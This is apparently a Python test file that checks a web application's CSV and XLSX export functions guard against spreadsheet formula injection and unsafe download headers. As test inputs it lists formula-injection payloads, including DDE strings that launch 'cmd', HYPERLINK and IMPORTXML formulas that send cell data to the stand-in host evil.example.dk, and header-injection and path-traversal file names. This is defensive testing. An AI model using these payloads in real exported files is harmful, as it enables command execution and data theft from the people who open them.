"""Files that leave the site: no cell is a formula, in CSV or XLSX, and every value can be had back."""

import csv
import io
from datetime import date
from itertools import product

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from videre.web.exporting import APOSTROPHE, DELIMITER, as_csv, as_xlsx, attached, safe_text

BEFORE = [
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u2003",
    "\x00",
    "\x1b",
    "\u202e",
    "\x0b",
]
STARTS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "−", "﹢"]
BODIES = [
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example.dk?"&A1,"x")', "SUM(A1:A9)",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    'IMPORTXML("http://evil.example.dk","//x")',
]  # fmt: skip
PAYLOADS = ["".join(parts) for parts in product(BEFORE, STARTS, BODIES)]
PAYLOADS += ["\t1", "\r1", "\n=1", 'a"\n=1+1', 'a;"=1+1', "a\r\n@SUM(1)", "'=1+1", "''", ";=1+1", '";=1+1;"']


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=DELIMITER))


def had_back(cell: str) -> str:
    return cell.removeprefix(APOSTROPHE)


def test_there_are_payloads_enough() -> None:
    assert len(set(PAYLOADS)) > 1000


def test_no_payload_is_a_formula_in_csv_and_each_can_be_had_back() -> None:
    rows = read_csv(as_csv([[payload, "beside"] for payload in PAYLOADS]))
    assert {row[1] for row in rows} == {"beside"}
    assert [had_back(row[0]) for row in rows] == PAYLOADS
    assert all(row[0].startswith(APOSTROPHE) for row in rows if row[0] not in {";=1+1", '";=1+1;"', 'a;"=1+1'})


def test_no_payload_becomes_a_cell_of_its_own_whichever_sign_parts_columns() -> None:
    text = as_csv([[payload] for payload in PAYLOADS]).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=","):
        assert len(row) == 1


def test_no_payload_is_a_formula_in_xlsx() -> None:
    shown = [payload for payload in PAYLOADS if payload.isprintable()]
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx([[payload] for payload in PAYLOADS], "x"))).active
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "inlineStr"}
    assert not {cell.data_type for row in sheet.iter_rows() for cell in row} & {"f", "e"}
    assert not sheet._hyperlinks
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx([[payload] for payload in shown], "x"))).active
    assert [row[0].value for row in sheet.iter_rows()] == shown


def test_numbers_dates_and_plain_texts_stay_as_they_are() -> None:
    plain = ["Sørensen", "9.b", "12-3", "a=b", "e@example.dk", ""]
    assert [safe_text(value) for value in plain] == plain
    assert [safe_text(value) for value in (-3, 2.5, None, date(2016, 3, 1))] == ["-3", "2.5", "", "2016-03-01"]
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx([[-3, 2.5, None, "x", date(2016, 3, 1)]], "Tal"))).active
    assert [cell.value for cell in sheet[1]] == [-3, 2.5, None, "x", "2016-03-01"]


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=3), max_size=5))
def test_every_text_can_be_had_back(rows: list[list[str]]) -> None:
    assert [[had_back(cell) for cell in row] for row in read_csv(as_csv(rows))] == rows


def test_a_file_is_saved_and_never_shown() -> None:
    answer = attached(b"x", "liste-2016.csv", "text/csv")
    assert answer["Content-Disposition"] == 'attachment; filename="liste-2016.csv"'
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]


@pytest.mark.parametrize("name", ["a b.csv", 'a".csv', "../a.csv", "a\r\nX: y.csv", "å.csv", "", "a/b.csv", "a..csv"])
def test_a_file_is_not_named_by_what_a_header_could_be_broken_with(name: str) -> None:
    with pytest.raises(ValueError, match="named by"):
        attached(b"x", name, "text/csv")
